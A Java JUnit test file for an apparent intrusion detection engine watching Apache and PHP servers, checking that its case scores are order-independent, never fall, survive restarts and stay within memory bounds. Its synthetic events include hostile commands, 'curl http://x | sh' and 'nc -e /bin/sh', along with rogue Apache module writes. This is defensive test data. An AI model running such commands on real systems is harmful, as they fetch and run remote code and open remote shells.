package io.graftwatch.core.detect;

import static io.graftwatch.core.detect.Facts.APACHE;
import static org.assertj.core.api.Assertions.assertThat;

import io.graftwatch.core.fact.Fact;
import io.graftwatch.core.fact.Identity;
import io.graftwatch.core.fact.Image;
import io.graftwatch.delivery.finding.DetectionFinding;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.TreeMap;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// The six invariants of cases, over stories that are drawn by a seed: placements, programs,
/// connections and files of several servers, within seconds of each other.
final class InvariantsTest {
  private static final int STORY = 60;

  private Facts f = new Facts();

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8})
  void orderAndRepetitionChangeNothing(long seed) {
    List<Fact> story = story(seed);
    List<DetectionFinding> straight = Facts.fed(Facts.engine(), story).finalStates();

    var random = new Random(seed);
    for (int i = 0; i < 5; i++) {
      List<Fact> shuffled = new ArrayList<>(story.subList(2, story.size()));
      shuffled.addAll(shuffled.subList(0, shuffled.size() / 2));
      Collections.shuffle(shuffled, random);
      shuffled.addAll(0, story.subList(0, 2));
      assertThat(Facts.fed(Facts.engine(), shuffled).finalStates()).isEqualTo(straight);
    }
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8})
  void moreEvidenceNeverLowersAScore(long seed) {
    // One component: what ran goes with the newest, so a second one may take it from the first.
    Engine engine = Facts.engine();
    var best = new TreeMap<String, Integer>();
    for (Fact fact : story(seed, 1)) {
      engine.accept(fact);
      var worst = new TreeMap<String, Integer>();
      for (DetectionFinding state : engine.finalStates()) {
        String server = String.valueOf(state.resources().getFirst().uid());
        worst.merge(server, (Integer) Facts.own(state).get("score"), Math::max);
      }
      best.forEach((server, score) -> assertThat(worst.get(server)).isGreaterThanOrEqualTo(score));
      best.putAll(worst);
    }
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3, 4})
  void whatBelongsToNoServerChangesNoCase(long seed) {
    List<Fact> story = story(seed);
    List<DetectionFinding> straight = Facts.fed(Facts.engine(), story).finalStates();

    var mixed = new ArrayList<Fact>();
    int pid = 30_000;
    for (Fact fact : story) {
      mixed.add(fact);
      double at = (fact.time() - Facts.START) / 1e6;
      mixed.add(f.admin(at, pid, "/usr/bin/bash", "bash", "-c", "id; curl http://x | sh"));
      mixed.add(
          f.start(
              at, pid + 1, pid, Image.of("/usr/bin/nc"), session(), true, "nc", "-e", "/bin/sh"));
      pid += 2;
    }
    assertThat(Facts.fed(Facts.engine(), mixed).finalStates()).isEqualTo(straight);
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8})
  void casesSurviveARestart(long seed) {
    List<Fact> story = story(seed);
    List<DetectionFinding> straight = Facts.fed(Facts.engine(), story).finalStates();

    int cut = 2 + new Random(seed).nextInt(story.size() - 2);
    Engine before = Facts.engine();
    story.subList(0, cut).forEach(before::accept);
    Engine after = Facts.engine();
    after.restore(before.snapshot());
    assertThat(Facts.fed(after, story.subList(cut, story.size())).finalStates())
        .isEqualTo(straight);
  }

  @Test
  void memoryHoldsWhateverComes() {
    Engine engine = Facts.engine();
    engine.accept(f.server());
    var random = new Random(1);
    for (int i = 0; i < 50_000; i++) {
      int pid = 1000 + random.nextInt(4_000_000);
      engine.accept(f.run(i * 0.01, pid, APACHE, "/tmp/" + i, "/tmp/" + i, "-x"));
      engine.accept(
          f.connect(
              i * 0.01, pid, "/tmp/" + i, "203.0." + i / 250 % 250 + "." + i % 250, i % 65_000));
      engine.accept(f.served(i * 0.01, pid, "/var/www/html/" + i + ".php"));
      if (i % 1000 == 0) {
        engine.drain();
      }
    }
    engine.finish();

    assertThat(engine.stats().processes()).isLessThanOrEqualTo(4096);
    assertThat(engine.stats().waiting()).isZero();
    assertThat(engine.finalStates()).hasSizeLessThan(600);
    assertThat(engine.snapshot().length).as("bytes of all that is known").isLessThan(6 << 20);
  }

  @Tag("soak")
  @Test
  void aMillionOrdinaryStartsTakeNoRoom() {
    Engine engine = Facts.learning();
    engine.accept(f.server());
    for (int i = 0; i < 1_000_000; i++) {
      int pid = 1000 + i % 30_000;
      engine.accept(f.run(i * 0.05, pid, APACHE, "/usr/bin/convert", "convert", "a" + i, "b"));
      if (i % 10_000 == 0) {
        engine.drain();
      }
    }
    engine.finish();

    assertThat(engine.drain()).isEmpty();
    assertThat(engine.stats().processes()).isLessThanOrEqualTo(4096);
    assertThat(engine.snapshot().length).isLessThan(2 << 20);
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3, 4})
  void theFirstAndTheBestEvidenceAreKept(long seed) {
    List<Fact> story = new ArrayList<>(story(seed));
    story.addAll(3, f.placed(0));
    Engine engine = Facts.fed(Facts.engine(), story);
    String first = evidence(engine, "P1");
    for (int i = 0; i < 2000; i++) {
      engine.accept(f.run(100 + i, 7000 + i, APACHE, "/usr/bin/dash", "sh", "-c", "id; w"));
      engine.accept(f.write(100 + i, 700, "/usr/lib/apache2/modules/mod_x.so"));
    }
    engine.finish();

    assertThat(evidence(engine, "P1")).isEqualTo(first);
  }

  private static String evidence(Engine engine, String code) {
    return engine.finalStates().stream()
        .flatMap(state -> state.evidences().stream())
        .filter(evidence -> code.equals(evidence.data().get("code")))
        .map(evidence -> String.valueOf(evidence.data().get("record")))
        .findFirst()
        .orElseThrow();
  }

  private static Identity session() {
    return new Identity(33, "www-data", null, 1000, "7");
  }

  /// Apache's and PHP's masters, then what the seed draws, in the order of time.
  private List<Fact> story(long seed) {
    return story(seed, 3);
  }

  private List<Fact> story(long seed, int components) {
    f = new Facts();
    var random = new Random(seed);
    var story = new ArrayList<Fact>();
    story.add(f.server());
    story.add(f.warm(200, 1, "/usr/sbin/php-fpm8.2", 33, "php-fpm: master process"));
    for (int i = 0; i < STORY; i++) {
      double at = i * 0.05;
      int server = random.nextBoolean() ? APACHE : 200;
      int pid = 1000 + i;
      String name = "m" + random.nextInt(components);
      switch (random.nextInt(8)) {
        case 0 -> story.add(f.write(at, 700, "/usr/lib/apache2/modules/mod_" + name + ".so"));
        case 1 -> story.add(f.write(at, 700, "/etc/apache2/mods-enabled/" + name + ".load"));
        case 2 -> story.add(f.run(at, pid, server, "/usr/bin/dash", "sh", "-c", "id; w"));
        case 3 -> story.add(f.run(at, pid, server, "/usr/bin/whoami", "whoami"));
        case 4 -> story.add(f.run(at, pid, server, "/tmp/x", "/tmp/x"));
        case 5 -> story.add(f.connect(at, APACHE, "/usr/sbin/apache2", "203.0.113.66", 443));
        case 6 -> story.add(f.run(at, pid, server, "/usr/bin/curl", "curl", "http://203.0.113.9"));
        default -> {
          if (components > 1) {
            story.add(f.served(at, APACHE, "/var/www/html/" + name + ".php"));
          }
        }
      }
    }
    return story;
  }
}
